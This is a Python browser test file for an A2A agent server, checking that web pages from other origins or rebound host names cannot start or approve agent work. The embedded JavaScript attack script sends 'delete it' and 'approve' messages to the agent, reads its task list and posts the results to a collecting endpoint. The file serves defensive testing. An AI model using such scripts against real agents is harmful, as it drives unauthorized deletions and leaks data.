"""A stranger's web page in a real browser, on the machine of an edge without a token."""

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from tests.browser.strangers import PAGE, STRANGER, Site, browsing, serving
from tests.e2e.conftest import ROOT, Edge, running_edge

pytestmark = pytest.mark.timeout(180)
"""Seconds: a browser takes a while to start on a busy machine."""

_SCRIPT = """
const [edge, mode, home] = TOLD, learnt = {};
const message = (id, text) =>
  ({message: {role: "user", messageId: id, contextId: "known", parts: [{kind: "text", text}]}});
const ask = async (name, path, options) => {
  try {
    const response = await fetch(edge + path, options);
    learnt[name] = [response.status, (await response.text()).slice(0, 2000)];
  } catch (error) {
    learnt[name] = [0, String(error)];
  }
};
const post = (name, path, body) =>
  ask(name, path, {method: "POST", mode, body: new Blob([JSON.stringify(body)])});
const call = (name, method, params) => post(name, "/a2a", {jsonrpc: "2.0", id: 1, method, params});
(async () => {
  await call("begin", "message/send", message("m-1", "delete it"));
  await call("approve", "message/send", message("m-2", "approve"));
  await call("stream", "message/stream", {...message("m-3", "delete it"), configuration: {blocking: false}});
  await post("rest", "/a2a/v1/message:send", message("m-4", "delete it"));
  await ask("tasks", "/a2a/tasks", {mode});
  await ask("health", "/health", {mode});
  await ask("card", "/.well-known/agent-card.json", {});
  await fetch(home + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(learnt)});
})();
"""


def attack(edge: str, mode: str, home: str) -> str:
    """A script that starts work and approves it, over all that a page can send."""
    return _SCRIPT.replace("TOLD", json.dumps([edge, mode, home]))


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    """The file that the agent deletes once that is approved."""
    path = tmp_path / "precious.txt"
    path.write_text("precious")
    return path


@pytest.fixture
def deleting(precious: Path, tmp_path: Path) -> Iterator[Edge]:
    env = {"DELETED_FILE": str(precious)}
    with running_edge(str(ROOT / "tests/browser/agent.py:graph"), data=tmp_path / "data", env=env) as running:
        yield running


@pytest.fixture
async def home() -> AsyncIterator[tuple[Site, str]]:
    """Where the stranger's script reports to, and its address."""
    site = Site("")
    async with serving(site, "127.0.0.1") as port:
        yield site, f"http://localhost:{port}"


def is_there(path: Path) -> bool:
    return path.exists()


async def tasks_of(edge: Edge) -> list[Any]:
    async with httpx2.AsyncClient(base_url=edge.url) as http:
        answer = (await http.get("/a2a/tasks", headers={"a2a-version": "1.0"})).json()
        tasks: list[Any] = answer["tasks"]
        return tasks


async def test_a_page_of_another_origin_can_neither_start_work_nor_approve_it(
    deleting: Edge, precious: Path, home: tuple[Site, str], tmp_path: Path
) -> None:
    reports, home_url = home
    site = Site(attack(deleting.url, "no-cors", home_url))
    async with asyncio.timeout(120), serving(site, "127.0.0.1") as port:
        with browsing(f"http://localhost:{port}{PAGE}", tmp_path / "profile", {}):
            learnt = await reports.report()
    assert is_there(precious)
    assert await tasks_of(deleting) == []
    assert learnt["card"][0] == 200  # cards are for everybody


async def test_a_page_whose_name_is_led_to_the_edge_can_do_no_more(
    deleting: Edge, precious: Path, home: tuple[Site, str], tmp_path: Path
) -> None:
    reports, home_url = home
    edge_port = int(deleting.url.rpartition(":")[2])
    url = f"http://{STRANGER}:{edge_port}"
    site = Site(attack(url, "same-origin", home_url), behind=("127.0.0.1", edge_port))
    async with asyncio.timeout(120), serving(site, "127.0.0.2", edge_port):
        with browsing(url + PAGE, tmp_path / "profile", {STRANGER: "127.0.0.2"}):
            learnt = await reports.report()
    assert {status for status, _ in learnt.values()} == {403}
    assert all("a2a.bearer_token" in text for _, text in learnt.values())
    assert is_there(precious)
    assert await tasks_of(deleting) == []


async def test_a_page_of_a_listed_origin_calls_and_reads_the_answer(
    precious: Path, home: tuple[Site, str], tmp_path: Path
) -> None:
    reports, home_url = home
    env = {"DELETED_FILE": str(precious)}
    site = Site("")
    async with asyncio.timeout(120), serving(site, "127.0.0.1") as port:
        env["LLAMON_A2A__CORS_ORIGINS"] = json.dumps([f"http://localhost:{port}"])
        with running_edge(str(ROOT / "tests/browser/agent.py:graph"), data=tmp_path / "data", env=env) as listed:
            site.show(
                attack(listed.url, "cors", home_url).replace("body: new Blob", f"headers: {_JSON}, body: new Blob")
            )
            with browsing(f"http://localhost:{port}{PAGE}", tmp_path / "profile", {}):
                learnt = await reports.report()
    assert {status for status, _ in learnt.values()} == {200}
    assert "input-required" in learnt["begin"][1]


_JSON = json.dumps({"content-type": "application/json", "a2a-version": "0.3"})
